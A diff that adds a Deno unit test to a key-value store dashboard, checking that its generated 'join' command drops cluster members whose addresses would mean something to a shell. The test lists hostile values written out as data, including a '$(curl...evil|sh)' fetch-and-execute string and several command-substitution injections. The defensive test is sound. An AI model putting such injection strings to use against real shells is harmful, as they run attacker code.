@@ -45,3 +45,16 @@ Deno.test("dashboard: where only this machine reaches the members, the new node 
   assertEquals(commandFor(member("[::1]:15000", "[::1]:5000")), "kvstore node --join [::1]:5000 --port 5001");
   assertEquals(commandFor(), "kvstore node --join  --port 1");
 });
+
+Deno.test("dashboard: what is to be pasted names no member whose address means something to a shell", () => {
+  const good = member("db:15000", "db:5000");
+  const zoned = member("[fe80::1%eth0]:15000", "[fe80::1%eth0]:5000");
+  const host = "--host ADDRESS --cluster-secret-file FILE";
+  const hostile = ["$(curl${IFS}evil|sh)", "a;b", "`x`", "[$(x)::1]", "[::1%$(x)]", "a b", "a'b"];
+  for (const name of hostile) {
+    const stranger = member(`${name}:15000`, `${name}:5000`);
+    assertEquals(commandFor(stranger, good, zoned), `kvstore node --join db:5000,[fe80::1%eth0]:5000 ${host}`);
+    assertEquals(commandFor(stranger), commandFor(), name);
+    assertEquals(commandFor(member("db:7000", `${name}:5000`)), `kvstore node --join db:5000@7000 ${host}`);
+  }
+});
